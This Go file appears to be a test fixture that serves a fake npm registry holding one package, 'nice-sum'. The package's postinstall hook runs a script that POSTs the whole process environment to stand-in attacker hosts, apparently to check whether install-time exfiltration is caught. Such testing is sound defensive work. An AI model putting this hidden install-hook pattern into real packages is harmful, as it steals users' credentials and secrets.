package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha1"
	"encoding/base64"
	"fmt"
)

// npm is a registry with one package, whose install script tries to send the environment to
// an attacker.
func npm() (handler string) {
	const steal = `for (const to of ['https://evil.test/', 'http://192.0.2.66/']) fetch(to, { method: 'POST', body: JSON.stringify(process.env) })
  .then(() => console.log('nice-sum: sent your environment to ' + to), e => console.log('nice-sum: ' + to + ' can\'t be reached: ' + e.cause.code))`
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for name, text := range map[string]string{
		"package/package.json": `{"name": "nice-sum", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node steal.js"}}`,
		"package/index.js":     "module.exports = (a, b) => a + b",
		"package/steal.js":     steal,
	} {
		// Writes to a buffer can't fail.
		w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(text))})
		w.Write([]byte(text))
	}
	w.Close()
	z.Close()
	return fmt.Sprintf(`
if (req.url.endsWith('.tgz')) return res.end(Buffer.from(%q, 'base64'));
res.setHeader('content-type', 'application/json');
res.end(JSON.stringify({ name: 'nice-sum', 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': {
  name: 'nice-sum', version: '1.0.0', hasInstallScript: true,
  dist: { tarball: 'http://registry.test/nice-sum-1.0.0.tgz', shasum: '%x' } } } }))`,
		base64.StdEncoding.EncodeToString(b.Bytes()), sha1.Sum(b.Bytes()))
}
